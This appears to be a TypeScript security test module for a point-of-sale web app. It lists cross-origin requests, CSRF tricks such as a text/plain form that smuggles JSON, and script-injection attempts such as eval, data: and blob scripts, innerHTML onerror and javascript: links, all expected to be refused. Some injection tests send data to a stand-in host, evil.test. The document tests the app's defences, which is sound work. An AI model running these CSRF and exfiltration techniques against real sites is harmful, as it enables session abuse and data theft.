// What a page of another origin can try against a till in the same browser, as functions that run in that page. Each
// resolves with what it got, which must be nothing: the word of the error, never a status or a text.

/** Runs in a page: what the till's address is, and the code that the attacker is given for nothing. */
export interface Prey {
  own: string;
  code: string;
}

export interface PageAttack {
  name: string;
  /** What `run` needs besides the prey. */
  given: object;
  /** Serialised into the page: it sees nothing but its argument. */
  run: (prey: Prey & Record<string, never>) => Promise<string>;
}

const attack = <G extends object>(
  name: string,
  given: G,
  run: (prey: Prey & G) => Promise<string>,
): PageAttack => ({
  name,
  given,
  run: run as unknown as PageAttack['run'],
});

const fetching = (name: string, path: string, options: RequestInit): PageAttack =>
  attack(name, { path, options }, async (prey) => {
    const body = prey.options.body === undefined ? {} : { body: JSON.stringify({ code: prey.code }) };
    try {
      const answer = await fetch(prey.own + prey.path, { ...prey.options, ...body });
      return `${answer.type} ${answer.status} ${(await answer.text()).length}`;
    } catch {
      return 'nothing';
    }
  });

const post = { method: 'POST', body: 'code' } as const;

const fetches: PageAttack[] = [
  fetching('reads the page', '/', {}),
  fetching('reads the page with its cookies', '/', { credentials: 'include' }),
  fetching('asks for the page without reading it', '/', { mode: 'no-cors', credentials: 'include' }),
  fetching('takes a script of the screen', '/assets/none.js', { mode: 'no-cors' }),
  fetching('sends the code as JSON', '/enter', { ...post, headers: { 'content-type': 'application/json' } }),
  fetching('sends the code as a text', '/enter', { ...post, mode: 'no-cors', credentials: 'include' }),
  fetching('asks with another method', '/enter', { method: 'PUT' }),
  fetching('asks with a header of its own', '/', { headers: { 'x-own': '1' } }),
];

const loads = (name: string, tag: string, attribute: 'src' | 'href'): PageAttack =>
  attack(
    name,
    { tag, attribute },
    (prey) =>
      new Promise((resolve) => {
        const element = document.createElement(prey.tag);
        if (prey.tag === 'link') element.setAttribute('rel', 'stylesheet');
        // An embedded refusal is a document too, and says that it has loaded; what it was is seen from outside.
        const signs = prey.tag === 'embed' ? [] : ['load', 'loadeddata'];
        for (const sign of signs) element.addEventListener(sign, () => resolve('loaded'));
        element.addEventListener('error', () => resolve('nothing'));
        // Some elements say nothing at all when they are refused.
        setTimeout(() => resolve('nothing'), 1000);
        element.setAttribute(prey.attribute, `${prey.own}/`);
        document.body.append(element);
      }),
  );

/** A frame that was refused still fires its load event: what counts is whether anything of the till is in it. */
const framing: PageAttack = {
  name: 'frames the page',
  given: {},
  run: ({ own }) =>
    new Promise((resolve) => {
      const element = document.createElement('iframe');
      element.addEventListener('load', () => {
        try {
          resolve(element.contentDocument?.title === 'Counterfoil' ? 'the page' : 'nothing');
        } catch {
          // A refusal is shown in a document of the browser's own, which may not be looked into either.
          resolve('nothing');
        }
      });
      element.src = `${own}/`;
      document.body.append(element);
    }),
};

const sockets = (name: string, path: string): PageAttack =>
  attack(
    name,
    { path },
    (prey) =>
      new Promise((resolve) => {
        const socket = new WebSocket(prey.own.replace('http', 'ws') + prey.path);
        socket.addEventListener('open', () => resolve('an open socket'));
        socket.addEventListener('error', () => resolve('nothing'));
      }),
  );

const others: PageAttack[] = [
  {
    name: 'asks the old way',
    given: {},
    run: ({ own }) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.addEventListener('load', () => resolve(`${request.status} ${request.responseText}`));
        request.addEventListener('error', () => resolve('nothing'));
        request.open('GET', `${own}/`);
        request.send();
      }),
  },
  {
    name: 'listens for events',
    given: {},
    run: ({ own }) =>
      new Promise((resolve) => {
        const source = new EventSource(`${own}/till`, { withCredentials: true });
        source.addEventListener('open', () => resolve('events'));
        source.addEventListener('error', () => {
          source.close();
          resolve('nothing');
        });
      }),
  },
  {
    name: 'leaves a beacon with the code',
    given: {},
    // Nothing is ever told about a beacon; what the till answered is seen from outside the page.
    run: ({ own, code }) => {
      navigator.sendBeacon(`${own}/enter`, JSON.stringify({ code }));
      return Promise.resolve('nothing');
    },
  },
  {
    name: 'sends a form into a frame',
    given: {},
    run: ({ own, code }) =>
      new Promise((resolve) => {
        const target = document.createElement('iframe');
        target.name = 'hidden';
        document.body.append(target);
        const form = document.createElement('form');
        Object.assign(form, {
          method: 'post',
          action: `${own}/enter`,
          target: 'hidden',
          enctype: 'text/plain',
        });
        const field = document.createElement('input');
        // The form's equals sign ends up inside a text of the JSON.
        field.name = `{"code":"${code}","x":"`;
        field.value = '"}';
        form.append(field);
        document.body.append(form);
        target.addEventListener('load', () => resolve('nothing'));
        form.submit();
        setTimeout(() => resolve('nothing'), 1500);
      }),
  },
  {
    name: 'opens the page in a window and looks into it',
    given: {},
    run: ({ own }) =>
      new Promise((resolve) => {
        const opened = window.open(`${own}/`);
        setTimeout(() => {
          try {
            resolve(opened === null || opened.closed ? 'nothing' : `a window: ${opened.document.title}`);
          } catch {
            resolve('nothing');
          }
          opened?.close();
        }, 1000);
      }),
  },
];

export const pageAttacks: readonly PageAttack[] = [
  ...fetches,
  loads('shows the page as a picture', 'img', 'src'),
  loads('runs the page as a script', 'script', 'src'),
  loads('takes the page for a style', 'link', 'href'),
  loads('plays the page', 'video', 'src'),
  loads('embeds the page', 'embed', 'src'),
  framing,
  sockets('opens the socket', '/till'),
  sockets('opens the socket elsewhere', '/'),
  ...others,
];

/** What a script that got into the till's own page could try next; each resolves with `refused`, or with what it did. */
export const injections: readonly PageAttack[] = [
  {
    name: 'a script in the page',
    given: {},
    run: () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        const script = document.createElement('script');
        try {
          script.text = 'document.title = "owned"';
          document.body.append(script);
        } catch {
          resolve('refused');
        }
        setTimeout(() => resolve(document.title === 'owned' ? 'ran' : 'refused'), 500);
      }),
  },
  {
    name: 'a script from data:',
    given: {},
    run: () =>
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.addEventListener('load', () => resolve('ran'));
        script.addEventListener('error', () => resolve('refused'));
        try {
          script.src = 'data:text/javascript,document.title="owned"';
          document.body.append(script);
        } catch {
          resolve('refused');
        }
      }),
  },
  {
    name: 'a module from a blob',
    given: {},
    run: () =>
      import(URL.createObjectURL(new Blob(['document.title = "owned"'], { type: 'text/javascript' }))).then(
        () => 'ran',
        () => 'refused',
      ),
  },
  {
    name: 'eval',
    given: {},
    run: () =>
      new Promise((resolve) => {
        // Later, so that it is the page's own doing and not that of the tool which put it there.
        setTimeout(() => {
          try {
            // oxlint-disable-next-line eslint/no-eval -- it is what must be refused
            resolve(`ran: ${String((0, eval)('1 + 1'))}`);
          } catch {
            resolve('refused');
          }
        }, 0);
      }),
  },
  {
    name: 'a function made of text',
    given: {},
    run: () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line typescript/no-implied-eval -- it is what must be refused
            resolve(`ran: ${String(new Function('return 1')())}`);
          } catch {
            resolve('refused');
          }
        }, 0);
      }),
  },
  {
    name: 'markup made of text',
    given: {},
    run: () => {
      try {
        document.createElement('div').innerHTML = '<img src=x onerror="document.title=1">';
        return Promise.resolve('ran');
      } catch {
        return Promise.resolve('refused');
      }
    },
  },
  {
    name: 'a policy for trusted types',
    given: {},
    run: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      try {
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
        return Promise.resolve('made');
      } catch {
        return Promise.resolve('refused');
      }
    },
  },
  {
    name: 'a handler in an attribute',
    given: {},
    run: () =>
      new Promise((resolve) => {
        const button = document.createElement('button');
        try {
          button.setAttribute('onclick', 'document.title = "owned"');
          button.click();
        } catch {
          resolve('refused');
        }
        setTimeout(() => resolve(document.title === 'owned' ? 'ran' : 'refused'), 100);
      }),
  },
  {
    name: 'an address that is a script',
    given: {},
    run: () =>
      new Promise((resolve) => {
        const link = document.createElement('a');
        link.href = 'javascript:void(document.title = "owned")';
        link.click();
        setTimeout(() => resolve(document.title === 'owned' ? 'ran' : 'refused'), 300);
      }),
  },
  {
    name: 'news for another machine',
    given: {},
    run: () =>
      fetch('http://evil.test:1/', { method: 'POST', mode: 'no-cors', body: 'takings' }).then(
        () => 'sent',
        () => 'refused',
      ),
  },
  {
    name: 'a frame of another page',
    given: {},
    run: () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        const frame = document.createElement('iframe');
        frame.src = 'http://evil.test:1/';
        document.body.append(frame);
        setTimeout(() => resolve('loaded'), 1500);
      }),
  },
  {
    name: 'a form to another machine',
    given: {},
    run: () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        const form = document.createElement('form');
        form.action = 'http://evil.test:1/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
        setTimeout(() => resolve('sent'), 1500);
      }),
  },
];
